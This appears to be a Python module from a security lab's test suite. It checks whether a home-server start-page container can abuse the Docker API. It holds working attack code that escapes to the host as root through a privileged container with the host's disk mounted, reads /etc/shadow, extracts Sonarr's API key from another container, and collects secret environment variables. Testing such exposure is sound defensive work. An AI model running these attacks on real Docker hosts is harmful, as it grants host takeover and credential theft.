"""From the start page's container, which may ask Docker what runs."""

from __future__ import annotations

import io
import json
import re
import tarfile
from dataclasses import dataclass
from typing import Any

from tests.lab.attacks.base import Outcome, attack, control, hidden
from tests.lab.attacks.place import Place

PAGE = "homepage"
STANDS = "start page's container"
# By the socket if it is mounted, else where the page's own settings say.
API = """
import http.client, json, os, socket, sys
def ask(method, path, body):
    link = http.client.HTTPConnection("socket-proxy", 2375, timeout=20)
    if os.path.exists("/var/run/docker.sock"):
        link.sock = socket.socket(socket.AF_UNIX)
        link.sock.connect("/var/run/docker.sock")
    link.request(method, path, body and json.dumps(body), {"Content-Type": "application/json"})
    answer = link.getresponse()
    return answer.status, answer.read(1 << 20).decode("latin-1")
print(json.dumps([ask(*asked) for asked in json.loads(sys.stdin.readline())]))
"""
# An environment variable with a secret in it: not a public key, not the path of a secret's file.
SECRET = re.compile(
    r"^(?P<name>(?!\w*PUBLIC)\w*(?:PASSWORD|SECRET|TOKEN|_KEY|KEY_)\w*)=(?P<value>[^/].*)"
)


@dataclass(frozen=True)
class Docker:
    """The Docker API as that container reaches it."""

    place: Place

    def ask(self, *asked: tuple[str, str, object]) -> list[tuple[int, str]]:
        """Method, path and body of each question; the status and text of each answer."""
        said = json.loads(self.place.python(PAGE, API, stdin=f"{json.dumps(asked)}\n").stdout)
        return [(int(status), str(text)) for status, text in said]

    def containers(self) -> list[dict[str, Any]]:
        """What runs: the start page shows it, so this is allowed everywhere."""
        [(status, said)] = self.ask(("GET", "/containers/json", None))
        control(status == 200, f"the list of the containers: HTTP {status}")
        return list(json.loads(said))


def secrets_in(environment: list[str]) -> list[str]:
    """The variables with a secret in them, values cut."""
    found = filter(None, map(SECRET.match, environment))
    return [f"{match['name']}={hidden(match['value'])}" for match in found]


@attack(STANDS, "box 1.6", "blocker 1", "action immediate.1")
def root_on_the_host_through_the_socket(place: Place) -> Outcome:
    """Whoever may create containers has the host's disk: a socket mounted read-only is one."""
    docker = Docker(place)
    wanted = {
        "Image": docker.containers()[0]["ImageID"],
        "Entrypoint": ["grep", "^root:", "/host/etc/shadow"],
        "Cmd": [],
        "User": "0",
        "HostConfig": {"Binds": ["/:/host"], "Privileged": True},
    }
    [(status, said)] = docker.ask(("POST", "/containers/create", wanted))
    if status != 201:
        return Outcome(False, f"POST /containers/create: HTTP {status}")
    made = f"/containers/{json.loads(said)['Id']}"
    *_, (_, log), _ = docker.ask(
        ("POST", f"{made}/start", None),
        ("POST", f"{made}/wait", None),
        ("GET", f"{made}/logs?stdout=1", None),
        ("DELETE", f"{made}?force=1", None),
    )
    found = re.search(r"root:[^:]*(:[\d:]+)", log)
    return Outcome(bool(found), f"/etc/shadow: root:(hash cut){found[1]}" if found else log)


@attack(STANDS, "box 1.6", "blocker 1", "blocker 4")
def another_container_s_files(place: Place) -> Outcome:
    """The Docker API packs any file of any container for whoever asks."""
    docker = Docker(place)
    docker.containers()
    path = f"/containers/{place.container('sonarr')}/archive?path=/config/config.xml"
    [(status, said)] = docker.ask(("GET", path, None))
    if status != 200:
        return Outcome(False, f"GET .../sonarr/archive: HTTP {status}")
    with tarfile.open(fileobj=io.BytesIO(said.encode("latin-1"))) as archive:
        member = archive.extractfile("config.xml")
        text = member.read().decode() if member else ""
    key = re.search(r"<ApiKey>(\w+)", text)
    return Outcome(bool(key), f"Sonarr's API key: {hidden(key[1])}" if key else text)


@attack(STANDS, "box 1.6", "box 1.8", "blocker 3")
def another_container_s_environment(place: Place) -> Outcome:
    """What stands in an environment is read by everybody who may inspect a container."""
    docker = Docker(place)
    names = [container["Names"][0].lstrip("/") for container in docker.containers()]
    answers = docker.ask(*(("GET", f"/containers/{name}/json", None) for name in names))
    found, seen = [], 0
    for name, (status, said) in zip(names, answers, strict=True):
        control(status == 200, f"inspecting {name}: HTTP {status}")
        environment = json.loads(said)["Config"]["Env"]
        seen += len(environment)
        found += [f"{name}: {entry}" for entry in secrets_in(environment)]
    return Outcome(bool(found), found[0] if found else f"{seen} variables, no secret in them")


ATTACKS = (
    root_on_the_host_through_the_socket,
    another_container_s_files,
    another_container_s_environment,
)
